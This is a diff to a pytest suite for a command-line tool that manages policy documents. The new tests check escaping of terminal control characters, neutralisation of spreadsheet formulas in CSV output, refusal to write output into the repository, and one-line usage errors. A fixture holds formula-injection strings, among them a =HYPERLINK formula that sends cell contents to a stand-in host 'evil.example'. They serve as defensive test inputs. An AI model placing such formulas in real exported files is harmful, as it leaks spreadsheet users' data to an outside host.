@@ -6,6 +6,7 @@ import os
 import subprocess
 import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
 from click.testing import CliRunner, Result
@@ -952,10 +953,14 @@ class TestTerminalSafety:
             ("render", "changes", "doc@v1", "doc@v2", "--format", "html"),
         ],
     )
-    def test_escaped_on_a_terminal_exact_in_a_pipe(
+    def test_escaped_on_a_terminal_and_in_a_pipe(
         self, make_repo: MakeRepo, args: tuple[str, ...]
     ) -> None:
-        """Markdown and documents: escaped when a terminal shows them, exact when piped."""
+        """Markdown and documents: escaped when a terminal shows them, and in a file too.
+
+        A document is read in an editor, a browser or Word, none of which
+        should get a raw ESC or a right-to-left override either.
+        """
 
         root = self.repo(make_repo)
         command = [sys.executable, "-m", "policypos", "--repo", str(root), *args]
@@ -965,7 +970,8 @@ class TestTerminalSafety:
         assert "\u202e" not in shown
         assert "\\x1b[2J" in shown
         piped = subprocess.run(command, capture_output=True, check=True).stdout.decode()
-        assert "\x1b[2J" in piped  # the data, as written: > file and -o file agree
+        assert "\x1b" not in piped
+        assert "\\x1b[2J" in piped  # > file and -o file agree
 
     def test_exact_in_json(self, make_repo: MakeRepo) -> None:
         """JSON keeps the text as it is."""
@@ -1387,6 +1393,15 @@ class TestListings:
         assert row == r"| m1/1 | comment | open |  | Say more \| or less, please. | a \\| b |  |"
 
 
+# Statement texts a spreadsheet would run as formulas.
+FORMULAS: dict[str, str] = {
+    "b": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "c": "+1+2 people",
+    "d": "-2+3",
+    "a": "@SUM(1,2)",
+}
+
+
 class TestAmendmentsRegister:
     """diff --format csv: one row per changed paragraph, for people who live in spreadsheets."""
 
@@ -1481,3 +1496,221 @@ class TestAmendmentsRegister:
         with (out / "register.csv").open(encoding="utf-8-sig", newline="") as handle:
             back = list(csv.reader(handle))
         assert back[1][6] == cell
+
+    def formula_repo(self, make_repo: MakeRepo) -> Path:
+        new = base(vid="v2", month="2")
+        for statement, text in FORMULAS.items():
+            start = new.index(f"      - id: {statement}\n")
+            line_start = new.index("text: ", start)
+            line_end = new.index("\n", line_start)
+            quoted = "'" + text.replace("'", "''") + "'"
+            new = new[:line_start] + f"text: {quoted}" + new[line_end:]
+        return two_versions(make_repo, base(), new)
+
+    def test_formulas_are_neutralised(self, make_repo: MakeRepo, tmp_path: Path) -> None:
+        """Cells a spreadsheet would run (= + - @) begin with an apostrophe; LibreOffice keeps them as text."""
+        import shutil
+
+        root = self.formula_repo(make_repo)
+        rows = self.rows("doc@v1", "doc@v2", repo=root)
+        new_cells = sorted(row[6] for row in rows[1:])
+        assert new_cells == sorted(f"'{text}" for text in FORMULAS.values())
+        assert all(not row[5].startswith(("=", "+", "-", "@")) for row in rows[1:])
+        soffice = shutil.which("soffice")
+        if soffice is None:
+            pytest.skip("soffice not installed: apt-get install libreoffice-calc-nogui")
+        target = tmp_path / "register.csv"
+        result = run("diff", "doc@v1", "doc@v2", "--format", "csv", "-o", str(target), repo=root)
+        assert result.exit_code == 0
+        out = tmp_path / "out"
+        subprocess.run(
+            [
+                soffice,
+                "--headless",
+                f"-env:UserInstallation=file://{tmp_path}/lo",
+                "--infilter=CSV:44,34,76,1",
+                "--convert-to",
+                "csv:Text - txt - csv (StarCalc):44,34,76,1",
+                "--outdir",
+                str(out),
+                str(target),
+            ],
+            check=True,
+            capture_output=True,
+            timeout=240,
+        )
+        if not (out / "register.csv").exists():
+            pytest.skip("LibreOffice Calc not installed: apt-get install libreoffice-calc-nogui")
+        import csv
+
+        with (out / "register.csv").open(encoding="utf-8-sig", newline="") as handle:
+            back = list(csv.reader(handle))
+        # Evaluated, =HYPERLINK would come back as "Click" and +1+2 as 3.
+        assert sorted(row[6] for row in back[1:]) == new_cells
+
+    @pytest.mark.parametrize(
+        ("cell", "safe"),
+        [
+            ("=1+1", "'=1+1"),
+            ("+1", "'+1"),
+            ("-1", "'-1"),
+            ("@A1", "'@A1"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("a=1", "a=1"),
+            ("", ""),
+            ("'quoted", "'quoted"),
+        ],
+    )
+    def test_spreadsheet_safe(self, cell: str, safe: str) -> None:
+        from policypos.views import spreadsheet_safe
+
+        assert spreadsheet_safe(cell) == safe
+
+
+class TestOutputIsNeverARepositoryFile:
+    """``-o`` refuses (exit 2, one line) a file the positions repository reads, and writes nothing."""
+
+    @pytest.mark.parametrize(
+        "args",
+        [
+            ("render", "annex", "going-straight@2024"),
+            ("render", "report", "going-straight@2024"),
+            ("diff", "going-straight@2005", "going-straight@2024"),
+            ("schema", "version"),
+        ],
+    )
+    @pytest.mark.parametrize(
+        "target",
+        [
+            "going-straight/versions/2024.yaml",  # a version, as the tester did
+            "going-straight/document.yaml",
+            "going-straight/meetings/new.yml",  # a new file the loader would read too
+            "going-straight/reports/2024.YAML",
+            "going-straight/notes.md",  # anything inside a document's folder
+            "settings.yaml",  # YAML at the root
+        ],
+    )
+    def test_refused(self, shipped: Path, args: tuple[str, ...], target: str) -> None:
+        path = shipped / target
+        before = path.read_bytes() if path.exists() else None
+        result = run(*args, "-o", str(path), repo=shipped)
+        assert result.exit_code == 2
+        assert result.output == (
+            f"policypos: error: {path} is a file of the positions repository {shipped}: "
+            "give -o a file outside it\n"
+        )
+        assert (path.read_bytes() if path.exists() else None) == before
+
+    def test_a_link_into_the_repository_is_refused(self, shipped: Path, tmp_path: Path) -> None:
+        link = tmp_path / "annex.md"
+        link.symlink_to(shipped / "going-straight/versions/2024.yaml")
+        result = run("render", "annex", "going-straight@2024", "-o", str(link), repo=shipped)
+        assert result.exit_code == 2
+        assert (shipped / "going-straight/versions/2024.yaml").read_text().startswith("#")
+
+    def test_elsewhere_overwriting_is_fine(self, shipped: Path, tmp_path: Path) -> None:
+        for path in (tmp_path / "annex.md", shipped / "annex.md", tmp_path / "old.yaml"):
+            path.write_text("old", encoding="utf-8")
+            result = run("render", "annex", "going-straight@2024", "-o", str(path), repo=shipped)
+            assert result.exit_code == 0, result.output
+            assert path.read_text(encoding="utf-8").startswith("# Going Straight")
+
+    def test_schema_without_a_repository(self, tmp_path: Path, monkeypatch: Any) -> None:
+        monkeypatch.chdir(tmp_path)
+        monkeypatch.delenv("POLICYPOS_REPO", raising=False)
+        result = CliRunner().invoke(cli, ["schema", "version", "-o", "version.schema.json"])
+        assert result.exit_code == 0, result.output
+        assert (tmp_path / "version.schema.json").is_file()
+
+
+class TestUsageErrorsAreOneLine:
+    """Every usage error is one line, ``policypos: error: ... (try 'policypos CMD --help')``, exit 2."""
+
+    @pytest.mark.parametrize(
+        ("args", "said", "command"),
+        [
+            (["nosuch"], "no such command 'nosuch'", "policypos"),
+            (["--bogus", "validate"], "no such option '--bogus'", "policypos"),
+            (["validate", "--bogus"], "no such option '--bogus'", "policypos validate"),
+            (["new-version", "going-straight"], "missing option '--from'", "policypos new-version"),
+            (
+                ["render", "annex"],
+                "missing argument 'DOC[@VERSION]'",
+                "policypos render annex",
+            ),
+            (
+                ["render", "annex", "going-straight", "--format", "rtf"],
+                "invalid value for '--format': 'rtf' is not one of",
+                "policypos render annex",
+            ),
+            (["render", "nosuch"], "no such command 'nosuch'", "policypos render"),
+            (
+                ["comment", "add", "going-straight", "--meeting", "m"],
+                "missing option '--id'",
+                "policypos comment add",
+            ),
+            (
+                ["show", "going-straight@2024", "--at", "2024-01-01"],
+                "give either DOC@VERSION or --at DATE, not both",
+                "policypos show",
+            ),
+        ],
+    )
+    def test_one_line(self, args: list[str], said: str, command: str) -> None:
+        result = run(*args)
+        assert result.exit_code == 2
+        assert result.stdout == ""
+        (line,) = result.stderr.splitlines()
+        assert line.startswith(f"policypos: error: {said}")
+        assert line.endswith(f" (try '{command} --help')")
+
+    @pytest.mark.parametrize(
+        ("given", "said"),
+        [
+            ("2026-02-30", "'2026-02-30' is not a real date (day is out of range for month)"),
+            ("2026-13-01", "'2026-13-01' is not a real date (month must be in 1..12)"),
+            ("2026-2-3", "'2026-2-3' is not written YYYY-MM-DD"),
+            ("30/02/2026", "'30/02/2026' is not written YYYY-MM-DD"),
+        ],
+    )
+    @pytest.mark.parametrize(
+        "args",
+        [
+            ["new-version", "going-straight", "--from", "2024", "--id", "x", "--date"],
+            ["restore", "going-straight@2005", "--id", "x", "--date"],
+            ["show", "going-straight", "--at"],
+        ],
+    )
+    def test_dates(self, args: list[str], given: str, said: str) -> None:
+        result = run(*args, given, "--dry-run" if args[0] != "show" else "--format=text")
+        assert result.exit_code == 2
+        option = "'--at' / '--in-force'" if args[0] == "show" else "'--date'"
+        assert result.stderr == (
+            f"policypos: error: invalid value for {option}: {said} "
+            f"(try 'policypos {args[0]} --help')\n"
+        )
+
+    def test_a_real_date_still_works(self, shipped: Path) -> None:
+        result = run("show", "going-straight", "--at", "2024-08-01", repo=shipped)
+        assert result.exit_code == 0
+        assert result.stdout.startswith("Version 2005 is in force")
+
+    def test_as_a_program(self) -> None:
+        """The installed command says the same, under its own name."""
+        proc = subprocess.run(
+            [sys.executable, "-m", "policypos", "new-version", "going-straight"],
+            capture_output=True,
+            text=True,
+            cwd=SHIPPED.parent,
+        )
+        assert proc.returncode == 2
+        assert proc.stderr == (
+            "policypos: error: missing option '--from' (try 'policypos new-version --help')\n"
+        )
+
+    def test_help_is_unchanged(self) -> None:
+        result = run("new-version", "--help")
+        assert result.exit_code == 0
+        assert result.stdout.startswith("Usage: ")
+        assert "--date YYYY-MM-DD" in result.stdout
